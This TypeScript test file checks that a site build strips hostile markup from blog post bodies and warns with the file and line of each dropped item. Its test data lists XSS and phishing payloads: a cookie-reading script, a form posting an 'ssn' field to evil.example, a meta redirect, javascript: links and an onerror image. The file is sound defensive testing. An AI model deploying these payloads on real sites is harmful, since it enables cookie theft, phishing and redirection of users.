/**
 * Post bodies through the real build: the build succeeds, warns with file and line for each
 * construct it drops, and the published post page, parsed, holds nothing the body injected.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { injectedMarkup, parseForChecks } from '../support/injected-markup.ts';
import { hostileBuild, post } from '../support/hostile-build.ts';

/** Body lines, each a different attack; the post's front matter takes lines 1–6, so line 7 is the first. */
const attacks = [
  ['<script>alert(document.cookie)</script>', 'raw HTML <script> is not published'],
  ['<iframe src="https://evil.example/"></iframe>', 'raw HTML <iframe> is not published'],
  ['<form action="https://evil.example/steal"><input name="ssn"></form>', 'raw HTML <form> is not published'],
  ['<meta http-equiv="refresh" content="0; url=https://evil.example/">', 'raw HTML <meta> is not published'],
  ['<style>body { display: none }</style>', 'raw HTML <style> is not published'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>', 'raw HTML <svg> is not published'],
  ['[click me](javascript:alert(1))', 'link to "javascript:alert(1)" is not published'],
  ['[back](/\\evil.example/phish)', 'link to "/\\\\evil.example/phish" is not published'],
  ['[slashes](//evil.example/phish)', 'link to "//evil.example/phish" is not published'],
  ['![pixel](data:image/png;base64,AAAA)', 'image "data:image/png;base64,AAAA" is not published'],
  ['<img src=x onerror="alert(1)">', 'raw HTML <img> is not published'],
] as const;

describe('hostile post bodies', () => {
  it('are published without anything they inject, each dropped construct named by file and line', async () => {
    const body = attacks.map(([markdown]) => markdown).join('\n\n');
    const result = await hostileBuild({ files: { 'posts/sample-news.md': post('', `${body}\n\nThe words stay.\n`) } });
    expect(result.output).not.toMatch(/Build failed/);
    expect(result.code).toBe(0);
    attacks.forEach(([, what], i) => {
      // One blank line between attacks: attack i is on line 7 + 2i.
      expect(result.output).toMatch(new RegExp(`posts/sample-news\\.md:${7 + 2 * i}: warning: [^\\n]*${what.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
    });
    const page = parseForChecks(await readFile(path.join(result.outDir, 'news/sample-news/index.html'), 'utf8'));
    const rendered = page.querySelector('article .cap-post__body');
    expect(rendered?.text).toContain('The words stay.');
    expect(rendered?.text).toContain('click me');
    expect(injectedMarkup(rendered!.querySelectorAll('*'))).toEqual([]);
    expect(page.querySelectorAll('script, iframe, form[action*="evil"], body meta, body style').map((node) => node.outerHTML)).toEqual([]);
    // The one http-equiv is the site's own policy, in the head.
    expect(page.querySelectorAll('meta[http-equiv]').map((node) => `${node.parentNode?.tagName} ${node.getAttribute('http-equiv')}`)).toEqual([
      'HEAD Content-Security-Policy',
    ]);
  });
});
